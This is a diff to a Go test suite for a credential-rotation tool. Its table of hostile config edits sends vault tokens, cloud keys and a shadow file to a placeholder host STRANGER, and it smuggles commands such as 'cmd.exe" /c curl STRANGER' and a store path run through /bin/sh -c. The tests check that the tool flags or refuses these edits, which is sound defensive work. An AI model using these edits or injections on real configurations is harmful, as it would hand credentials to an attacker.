@@ -1,6 +1,7 @@
 package labcli_test
 
 import (
+	"encoding/base64"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -16,6 +17,7 @@ const (
 	cloudKey   = "canary-of-the-runners-cloud"
 	shadowFile = "canary-of-the-runners-disk"
 	liveKey    = "canary-of-the-live-relay-key"
+	bankKey    = "canary-of-another-team"
 )
 
 const agreedDocument = `apiVersion: meshrotate/v1
@@ -45,6 +47,12 @@ type attack struct {
 	file     string   // with this text beside the document: hostile.conf
 	never    bool     // refused in every document, whoever is believed
 	says     string
+
+	// Where the document is believed, plan sends the stranger hears (anything, when empty) or runs the agreed program with runs; pairs that are
+	// changed then as well have it ask for what the attack brings: nobody asks a store for a value before the hosts answer.
+	hears, runs string
+	believed    []string
+	silent      string // why that cannot be shown here
 }
 
 const relayAddress = `    relay-1.contoso.example: {address: "FRIEND"}`
@@ -56,61 +64,64 @@ var attacks = []attack{
 		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: stolen.age}}`, never: true, says: "connect.adminApi.token"},
 	{name: "quote in powershell", from: `transport: http,`, to: `transport: http, powershell: 'cmd.exe" /c curl STRANGER & rem "',`, never: true, says: "connect.winrm.powershell"},
 	{name: "powershell of a share", from: `transport: http,`, to: `transport: http, powershell: '\\STRANGER\s\powershell.exe',`, never: true, says: "connect.winrm.powershell"},
-	{name: "another powershell", from: `transport: http,`, to: `transport: http, powershell: 'C:\stage\powershell.exe',`, says: "connect.winrm.powershell is new, not contacted"},
+	{name: "another powershell", from: `transport: http,`, to: `transport: http, powershell: 'C:\stage\powershell.exe',`, says: "connect.winrm.powershell is new, not contacted", silent: "a host that answers would be told to run it; these do not answer"},
 	{name: "API elsewhere", from: `url: "http://FRIEND"`, to: `url: "http://STRANGER"`, says: "connect.adminApi.url"},
 	{name: "cloud keys to an API", from: `adminApi: {url: "http://FRIEND"}`,
-		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY"},
+		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY", hears: "Bearer " + cloudKey},
 	{name: "cloud keys to a host", from: `{address: "FRIEND"}`,
-		to: `{address: "STRANGER", auth: basic, user: u, password: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY"},
+		to: `{address: "STRANGER", auth: basic, user: u, password: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY", hears: base64.StdEncoding.EncodeToString([]byte("u:" + cloudKey))},
 	{name: "file of the runner to a host", from: relayAddress,
-		to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {file: SHADOW}}`, says: "file SHADOW"},
-	{name: "another relay", from: `relays: [relay-1.contoso.example]`, to: `relays: [relay-1.contoso.example, localhost]`, says: "hosts.relays is new, not contacted: localhost"},
-	{name: "another address of a relay", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER"}`, says: `connect.hosts["relay-1.contoso.example"].address is new, not contacted: STRANGER`},
+		to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {file: SHADOW}}`, says: "file SHADOW", hears: base64.StdEncoding.EncodeToString([]byte("u:" + shadowFile))},
+	{name: "another relay", from: `relays: [relay-1.contoso.example]`, to: `relays: [relay-1.contoso.example, localhost]`, says: "hosts.relays is new, not contacted: localhost", believed: []string{relayAddress, relayAddress + "\n    localhost: {address: \"STRANGER\"}"}},
+	{name: "another address of a relay", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER"}`, says: `connect.hosts["relay-1.contoso.example"].address is new, not contacted: STRANGER`, hears: "/wsman"},
 	{name: "token endpoint elsewhere", from: `adminApi: {url: "http://FRIEND"}`,
-		to: `adminApi: {url: "http://FRIEND", auth: oauth2, oauth2: {tokenUrl: "http://STRANGER", clientId: x, clientSecret: {env: CLOUD_KEY}}}`, says: "connect.adminApi.oauth2.tokenUrl"},
+		to: `adminApi: {url: "http://FRIEND", auth: oauth2, oauth2: {tokenUrl: "http://STRANGER", clientId: x, clientSecret: {env: CLOUD_KEY}}}`, says: "connect.adminApi.oauth2.tokenUrl", hears: base64.StdEncoding.EncodeToString([]byte("x:" + cloudKey))},
 	{name: "SQL Server elsewhere", from: "secrets:\n",
 		to:   "  sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}\nsecrets:\n  sqlLogin: {mode: single, login: im, version: 1, from: generated}\n",
 		says: "connect.sql.server is new, not contacted: sql01"},
 	{name: "state elsewhere", from: "state: {dir: STATE}",
 		to: "state: {sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}}", says: "state.sql.server"},
 	{name: "state on a branch elsewhere", from: "state: {dir: STATE}",
-		to: "state: {git: {repo: \"http://STRANGER/state.git\", token: {env: CLOUD_KEY}}, dir: STATE}", says: "state.git.repo"},
+		to: "state: {git: {repo: \"http://STRANGER/state.git\", token: {env: CLOUD_KEY}}, dir: STATE}", says: "state.git.repo", hears: "/state.git"},
 	{name: "KDC of the request", from: `winrm: {auth: ntlm, transport: http,`, to: `winrm: {auth: kerberos, kerberos: {config: hostile.conf},`,
 		file: "[libdefaults]\ndefault_realm = X\n[realms]\nX = {\n kdc = STRANGER\n}\n", says: "connect.winrm.kerberos.config"},
-	{name: "value of the runner for the hosts", from: "from: generated", to: "from: {env: CLOUD_KEY}", says: "secrets.relayKey.from"},
+	{name: "value of the runner for the hosts", from: "from: generated", to: "from: {env: CLOUD_KEY}", says: "secrets.relayKey.from", silent: "it is sent to hosts that answer; these do not"},
 }
 
 const agreedVault, agreedTool = `{vault: {url: "http://FRIEND", token: {env: IM_VAULT}}}`, `args: [read], env: [IM_OP]`
 
 // storeAttacks are those on stores: a new one, another one under an agreed name, another way in, another place, another program.
 var storeAttacks = []attack{
-	{name: "another store", from: "corp: {", to: `corpp: {vault: {url: "http://STRANGER", token: {env: CLOUD_KEY}}}` + "\n    corp: {", says: "connect.stores.corpp.vault.url is new, not contacted: http://STRANGER"},
+	{name: "another store", from: "corp: {", to: `corpp: {vault: {url: "http://STRANGER", token: {env: CLOUD_KEY}}}` + "\n    corp: {", says: "connect.stores.corpp.vault.url is new, not contacted: http://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corpp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
 	{name: "values from another store", from: "from: generated", to: "from: {store: corpp, path: a}", more: []string{"corp: {", `corpp: {vault: {url: "http://STRANGER", token: {env: CLOUD_KEY}}}` + "\n    corp: {"},
-		says: "secrets.relayKey.from is new, not in force: store corpp/a"},
-	{name: "agreed store elsewhere", from: agreedVault, to: `{vault: {url: "http://STRANGER", token: {env: IM_VAULT}}}`, says: "connect.stores.corp.vault.url is new, not contacted: http://STRANGER"},
+		says: "secrets.relayKey.from is new, not in force: store corpp/a", believed: []string{"{env: IM_PASSWORD}", "{store: corpp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
+	{name: "agreed store elsewhere", from: agreedVault, to: `{vault: {url: "http://STRANGER", token: {env: IM_VAULT}}}`, says: "connect.stores.corp.vault.url is new, not contacted: http://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "X-Vault-Token: agreed"},
 	{name: "agreed store of another kind", from: agreedVault, to: `{keyVault: {url: "https://STRANGER", entra: {tenant: t, clientId: c, secret: {env: CLOUD_KEY}, authority: "https://STRANGER"}}}`,
-		says: "connect.stores.corp.keyVault.url is new, not contacted: https://STRANGER"},
-	{name: "cloud keys to an agreed store", from: "{env: IM_VAULT}", to: "{env: CLOUD_KEY}", says: "connect.stores.corp.vault.token is new, not contacted: env CLOUD_KEY"},
-	{name: "file of the runner to an agreed store", from: "token: {env: IM_VAULT}", to: "kubernetes: {role: im, jwt: {file: SHADOW}}", says: "connect.stores.corp.vault.kubernetes.jwt is new, not contacted: file SHADOW"},
-	{name: "another mount", from: "token: {env: IM_VAULT}", to: "token: {env: IM_VAULT}, mount: finance", says: "connect.stores.corp.vault.mount is new, not contacted: finance (agreed: secret)"},
-	{name: "another place in an agreed store", from: "from: generated", to: "from: {store: corp, path: finance/bank}", says: "secrets.relayKey.from is new, not in force: store corp/finance/bank"},
+		says: "connect.stores.corp.keyVault.url is new, not contacted: https://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}},
+	{name: "cloud keys to an agreed store", from: "{env: IM_VAULT}", to: "{env: CLOUD_KEY}", says: "connect.stores.corp.vault.token is new, not contacted: env CLOUD_KEY", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
+	{name: "file of the runner to an agreed store", from: "token: {env: IM_VAULT}", to: "kubernetes: {role: im, jwt: {file: SHADOW}}", says: "connect.stores.corp.vault.kubernetes.jwt is new, not contacted: file SHADOW", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: shadowFile},
+	{name: "another mount", from: "token: {env: IM_VAULT}", to: "token: {env: IM_VAULT}, mount: finance", says: "connect.stores.corp.vault.mount is new, not contacted: finance (agreed: secret)", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "/v1/finance/data/a"},
+	{name: "another place in an agreed store", from: "from: generated", to: "from: {store: corp, path: finance/bank}", says: "secrets.relayKey.from is new, not in force: store corp/finance/bank", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: finance/bank}"}, hears: "/v1/secret/data/finance/bank"},
 	{name: "a credential out of an agreed store", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {store: corp, path: finance/bank}}`,
-		says: `connect.hosts["relay-1.contoso.example"].password is new, not contacted: store corp/finance/bank`},
-	{name: "a kept value for everybody", from: "from: generated", to: "from: generated, keep: {store: corp, path: public/relay}", says: "secrets.relayKey.keep is new, not contacted: corp/public/relay"},
-	{name: "a program of the request", from: "op: {", to: `sh: {exec: {program: /bin/sh, args: [-c]}}` + "\n    op: {", more: []string{"from: generated", "from: {store: sh, path: curl STRANGER}"}, says: "connect.stores.sh.exec.program is new, not contacted: /bin/sh"},
+		says: `connect.hosts["relay-1.contoso.example"].password is new, not contacted: store corp/finance/bank`, hears: base64.StdEncoding.EncodeToString([]byte("u:" + bankKey))},
+	{name: "a kept value for everybody", from: "from: generated", to: "from: generated, keep: {store: corp, path: public/relay}", says: "secrets.relayKey.keep is new, not contacted: corp/public/relay", silent: "it is written there when hosts that answer are rotated; these do not"},
+	{name: "a program of the request", from: "op: {", to: `sh: {exec: {program: /bin/sh, args: [-c]}}` + "\n    op: {", more: []string{"from: generated", "from: {store: sh, path: curl STRANGER}"}, says: "connect.stores.sh.exec.program is new, not contacted: /bin/sh", believed: []string{"{env: IM_PASSWORD}", "{store: sh, path: echo sh >RAN}"}, runs: "sh"},
 	{name: "another program under an agreed name", from: "program: TOOL, args: [read]", to: "program: /bin/sh, args: [-c]", more: []string{"from: generated", "from: {store: op, path: curl STRANGER}"},
-		says: "connect.stores.op.exec.program is new, not contacted: /bin/sh"},
-	{name: "another argument of an agreed program", from: agreedTool, to: `args: [read, --debug], env: [IM_OP]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.args is new, not contacted: read, --debug"},
-	{name: "cloud keys to an agreed program", from: agreedTool, to: `args: [read], env: [IM_OP, CLOUD_KEY]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.env is new, not contacted: CLOUD_KEY"},
-	{name: "another value of an agreed program", from: "from: generated", to: "from: {store: op, path: 'op://finance/bank'}", says: "secrets.relayKey.from is new, not in force: store op/op://finance/bank"},
-	{name: "another file on a program's input", from: agreedTool, to: `args: [read], env: [IM_OP], stdin: true`, more: []string{"from: generated", "from: {store: op, path: SHADOW}"}, says: "connect.stores.op.exec.stdin is new, not contacted: true"},
+		says: "connect.stores.op.exec.program is new, not contacted: /bin/sh", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: echo sh >RAN}"}, runs: "sh"},
+	{name: "another argument of an agreed program", from: agreedTool, to: `args: [read, --debug], env: [IM_OP]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.args is new, not contacted: read, --debug", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: a}"}, runs: "read --debug a,"},
+	{name: "cloud keys to an agreed program", from: agreedTool, to: `args: [read], env: [IM_OP, CLOUD_KEY]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.env is new, not contacted: CLOUD_KEY", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: a}"}, runs: "read a, " + cloudKey},
+	{name: "another value of an agreed program", from: "from: generated", to: "from: {store: op, path: 'op://finance/bank'}", says: "secrets.relayKey.from is new, not in force: store op/op://finance/bank", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: 'op://finance/bank'}"}, runs: "read op://finance/bank"},
+	{name: "another file on a program's input", from: agreedTool, to: `args: [read], env: [IM_OP], stdin: true`, more: []string{"from: generated", "from: {store: op, path: SHADOW}"}, says: "connect.stores.op.exec.stdin is new, not contacted: true", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: SHADOW}"}, runs: ", " + shadowFile},
 }
 
 // in is the agreed document with the attack in it.
-func (a attack) in(t *testing.T) string {
+func (a attack) in(t *testing.T) string { return a.and(t, nil) }
+
+// and is the same with more pairs.
+func (a attack) and(t *testing.T, more []string) string {
 	t.Helper()
 	text := agreedDocument
-	for _, pair := range append([][]string{{a.from, a.to}}, slices.Collect(slices.Chunk(a.more, 2))...) {
+	for pair := range slices.Chunk(slices.Concat([]string{a.from, a.to}, a.more, more), 2) {
 		if !strings.Contains(text, pair[0]) {
 			t.Fatalf("%q is not in the document", pair[0])
 		}
@@ -146,6 +157,7 @@ func TestHostileRequest(t *testing.T) {
 				h.quiet(append(verb, append(file, "--base", "main")...)...)
 			}
 			h.clone(a)
+			h.control(a)
 		})
 	}
 }
